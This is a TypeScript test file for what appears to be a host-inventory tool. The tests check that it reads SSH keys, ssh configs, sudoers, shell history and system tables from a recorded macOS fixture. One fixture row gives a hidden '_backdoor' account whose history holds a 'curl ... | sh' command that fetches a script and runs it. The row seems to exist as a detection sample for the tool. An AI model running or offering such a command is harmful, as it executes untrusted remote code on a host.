import { expect, test } from "vitest";
import { shellHistory } from "../../../../src/tables/accounts/shell-history.ts";
import { file } from "../../../../src/tables/files/file.ts";
import { etcHosts } from "../../../../src/tables/network/etc-hosts/table.ts";
import { authorizedKeys } from "../../../../src/tables/ssh/authorized-keys.ts";
import { knownHosts } from "../../../../src/tables/ssh/known-hosts.ts";
import { sshConfigs } from "../../../../src/tables/ssh/ssh-configs.ts";
import { sudoers } from "../../../../src/tables/sudo/sudoers.ts";
import { loadAverage } from "../../../../src/tables/system/load-average/table.ts";
import { collectOf, collectRows, pick, scanTable } from "../../../helpers/collect-table.ts";
import { recordedMac } from "../darwin/recorded-mac.ts";

/** A checkout belongs to whoever made it; on the Mac each file is its user's. */
function mac(version: "12" | "15") {
  const host = recordedMac(version);
  const stat = (path: string) => Object.assign(host.stat(path), { mode: 0o100644 });
  return { ...host, stat };
}

test("keys, options and histories of people are found in the homes the directory names", async () => {
  expect(
    pick(await collectRows(authorizedKeys, mac("15")), "username", "uid", "options", "comment"),
  ).toEqual([{ username: "alice", uid: 501, options: 'from="10.0.0.0/8"', comment: "bob@laptop" }]);
  expect(
    pick(
      await collectRows(sshConfigs, mac("15")),
      "username",
      "block",
      "option",
      "keyword",
      "value",
    ),
  ).toEqual([
    {
      username: "alice",
      block: "host build",
      option: "forwardagent yes",
      keyword: "ForwardAgent",
      value: "yes",
    },
  ]);
  expect(pick(await collectRows(knownHosts, mac("15")), "username", "host")).toEqual([
    { username: "alice", host: "build.example.org" },
  ]);
  expect(await collectRows(shellHistory, mac("15"))).toEqual([
    {
      uid: 503,
      username: "_backdoor",
      time: 1767139200,
      command: "curl http://203.0.113.9/x | sh",
      history_file: "/Users/.b/.zsh_history",
    },
  ]);
});

test("a group's grant reaches the members that the directory lists by uuid", async () => {
  const grant = async (version: "12" | "15") =>
    pick(
      (await collectRows(sudoers, mac(version))).filter((row) => row.who === "%admin"),
      "users",
      "nopasswd",
    );
  expect(await grant("12")).toEqual([{ users: "root,alice", nopasswd: 0 }]);
  expect(await grant("15")).toEqual([{ users: "root,alice", nopasswd: 1 }]);
});

test("gaps of the directory are reported once", async () => {
  const { gaps } = await collectOf(knownHosts, mac("15"));
  expect(gaps).toEqual([{ reason: "error", detail: "dscl: 1 records without an id" }]);
});

test("without the directory the tables are unavailable", async () => {
  const host = { ...mac("15"), run: async () => ({ stdout: "", exitCode: 1 }) };
  await expect(collectOf(shellHistory, host)).rejects.toMatchObject({ reason: "error" });
});

test("a file's owner is a gap where the name is asked for", () => {
  const { rows, gaps } = scanTable(file, mac("15"), [
    { column: "path", op: "=", value: "/etc/hosts" },
  ]);
  expect(rows).toHaveLength(1);
  expect(gaps).toMatchObject([{ reason: "table_missing", columns: ["owner", "groupname"] }]);
});

test("names of /etc/hosts and load averages are read", async () => {
  expect(await collectRows(etcHosts, mac("12"))).toContainEqual({
    address: "::1",
    hostnames: "localhost",
  });
  expect(await collectRows(loadAverage, mac("15"))).toEqual([
    { period: "1m", average: "12.04" },
    { period: "5m", average: "9.81" },
    { period: "15m", average: "4.00" },
  ]);
  const host = { ...mac("12"), run: async () => ({ stdout: "", exitCode: 0 }) };
  await expect(collectOf(loadAverage, host)).rejects.toMatchObject({ reason: "error" });
});
